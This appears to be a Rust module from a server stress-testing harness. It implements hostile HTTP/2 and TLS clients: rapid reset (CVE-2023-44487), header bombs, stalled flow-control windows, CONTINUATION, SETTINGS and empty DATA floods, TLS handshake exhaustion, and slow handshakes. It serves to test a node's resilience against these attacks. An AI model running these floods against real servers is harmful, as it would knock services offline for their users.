//! Hostile clients of TLS and HTTP/2. The crate h2 sends the frames that a library can send; the
//! others are written frame by frame.

use std::{
    sync::atomic::Ordering::Relaxed,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use http::Request;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, split},
    net::TcpStream,
    task::yield_now,
    time::{sleep, timeout},
};
use tokio_rustls::client::TlsStream;

use super::{Siege, crowds::OpenSockets, node::HOSTILE_ADDRESSES, sockets::REFUSED_PAUSE, tls};

/// First bytes of a client of HTTP/2: the preface and empty settings.
const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// `GET /` of `localhost`, in HPACK.
const GET: &[u8] = b"\x82\x87\x84\x41\x09localhost";
/// Kinds of frames (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// Frames that are written at once.
const BATCH: usize = 1000;
/// Requests that a client sends before it resets them: fewer than a connection may have.
const REQUESTS: usize = 50;
/// How long an attacker waits for a node that does not answer.
const WITHIN: Duration = Duration::from_secs(5);

fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, 0], &stream.to_be_bytes(), payload].concat()
}

async fn dial(siege: &Siege) -> Result<TlsStream<TcpStream>> {
    siege.attempts.fetch_add(1, Relaxed);
    let socket = siege.node.dial_hostile().await?;
    timeout(WITHIN, tls::handshake(siege, socket)).await.context("no handshake")?
}

/// Attacks again and again, with a pause after each connection that ended.
async fn repeat(attack: impl AsyncFn() -> Result<()>) {
    loop {
        let _ = attack().await;
        sleep(REFUSED_PAUSE).await;
    }
}

fn get(path: &str) -> Request<()> {
    let request = Request::builder().uri(format!("https://localhost{path}"));
    request.body(()).unwrap_or_default()
}

/// Speaks HTTP/2 by the library while `act` lasts.
async fn speak(
    siege: &Siege,
    settings: &h2::client::Builder,
    act: impl AsyncFn(SendRequest<Bytes>) -> Result<()>,
) -> Result<()> {
    let (requests, connection) = settings.handshake(dial(siege).await?).await?;
    tokio::select! {
        ended = connection => Ok(ended?),
        ended = act(requests) => ended,
    }
}

/// Sends requests and resets each at once (CVE-2023-44487).
pub async fn rapid_resets(siege: &Siege) {
    let settings = h2::client::Builder::new();
    repeat(async || {
        speak(siege, &settings, async |mut requests| {
            loop {
                let mut begun = Vec::with_capacity(REQUESTS);
                for _ in 0..REQUESTS {
                    requests = requests.ready().await?;
                    begun.push(requests.send_request(get("/"), true)?);
                }
                // The frames leave before the resets: the library sends nothing of what it resets
                // before.
                yield_now().await;
                for (_, stream) in &mut begun {
                    stream.send_reset(Reason::CANCEL);
                }
                siege.attempts.fetch_add(REQUESTS as u64, Relaxed);
                drop(begun);
                yield_now().await;
            }
        })
        .await
    })
    .await;
}

/// Sends requests with more headers than any may have, in many frames each.
pub async fn header_bombs(siege: &Siege) {
    let settings = h2::client::Builder::new();
    repeat(async || {
        speak(siege, &settings, async |mut requests| {
            loop {
                requests = requests.ready().await?;
                let mut request = get("/");
                for number in 0..100 {
                    let name = http::HeaderName::try_from(format!("x-header-{number}"))?;
                    request.headers_mut().insert(name, "value".repeat(200).parse()?);
                }
                siege.attempts.fetch_add(1, Relaxed);
                let (answer, _) = requests.send_request(request, true)?;
                let _ = timeout(WITHIN, answer).await.context("no answer")?;
            }
        })
        .await
    })
    .await;
}

/// Requests a page on each stream, and reads none of the answers.
pub async fn stalled_windows(siege: &Siege) {
    /// Connections of each attacker.
    const CONNECTIONS: usize = 100;
    let mut settings = h2::client::Builder::new();
    settings.initial_window_size(0);
    let stall = async || {
        repeat(async || {
            speak(siege, &settings, async |mut requests| {
                let mut held = Vec::new();
                loop {
                    requests = requests.ready().await?;
                    siege.attempts.fetch_add(1, Relaxed);
                    held.push(requests.send_request(get("/shared/look/style.css"), true)?);
                    // A node that ends streams early is always ready for the next one.
                    yield_now().await;
                }
            })
            .await
        })
        .await;
    };
    futures_util::future::join_all((0..CONNECTIONS).map(|_| stall())).await;
}

/// Sends `first` and then `batch` without end, and reads the node's frames.
async fn flood(siege: &Siege, first: &[u8], batch: &[u8]) -> Result<()> {
    let (mut reading, mut writing) = split(dial(siege).await?);
    let read = async {
        let mut buffer = vec![0; 16 * 1024];
        while reading.read(&mut buffer).await? > 0 {}
        anyhow::Ok(())
    };
    let write = async {
        writing.write_all(&[BEGIN, first].concat()).await?;
        loop {
            writing.write_all(batch).await?;
            siege.attempts.fetch_add(BATCH as u64, Relaxed);
        }
    };
    tokio::select! {
        ended = read => ended,
        ended = write => ended,
    }
}

/// Sends the headers of one request in frames without end.
pub async fn continuations(siege: &Siege) {
    let headers = frame(HEADERS, 1, GET);
    // A short header that the table of the connection does not keep.
    let more = frame(CONTINUATION, 1, b"\0\x01a\x01b").repeat(BATCH);
    repeat(async || flood(siege, &headers, &more).await).await;
}

/// Sends settings without end, each of which the node has to acknowledge.
pub async fn settings(siege: &Siege) {
    let settings = frame(SETTINGS, 0, b"\0\x04\0\0\xff\xff").repeat(BATCH);
    repeat(async || flood(siege, b"", &settings).await).await;
}

/// Sends frames of content that have none.
pub async fn empty_data(siege: &Siege) {
    let mut headers = frame(HEADERS, 1, &[&b"\x83\x87\x84"[..], &GET[3..]].concat());
    headers[4] = 4; // all headers are in this frame, and a body follows
    let data = frame(DATA, 1, b"").repeat(BATCH);
    repeat(async || flood(siege, &headers, &data).await).await;
}

/// Begins handshakes of TLS, and leaves when the node has done its part.
pub async fn tls_handshakes(siege: &Siege) {
    repeat(async || {
        let hello = tls::hello(siege.tls.clone().context("a node with TLS")?)?;
        loop {
            siege.attempts.fetch_add(1, Relaxed);
            let mut socket = siege.node.dial_hostile().await?;
            socket.write_all(&hello).await?;
            timeout(WITHIN, socket.read(&mut [0; 4096])).await.context("no answer")??;
        }
    })
    .await;
}

/// Sends the first bytes of a handshake a byte in a second, from all hostile addresses.
pub async fn slow_handshakes(siege: &Siege) {
    const PAUSE: Duration = Duration::from_secs(1);
    let mut held = OpenSockets::new();
    let mut due = Instant::now() + PAUSE;
    for address in (0..HOSTILE_ADDRESSES).cycle() {
        siege.attempts.fetch_add(1, Relaxed);
        match timeout(PAUSE, siege.node.dial_hostile_from(address)).await {
            Ok(Ok(mut socket)) => {
                // The head of a record of 512 bytes.
                if socket.write_all(&[22, 3, 1, 2, 0]).await.is_ok() {
                    held.add(socket);
                }
            }
            Ok(Err(_)) | Err(_) => sleep(REFUSED_PAUSE).await,
        }
        if due <= Instant::now() {
            due = Instant::now() + PAUSE;
            held.send_a_byte();
        }
    }
}
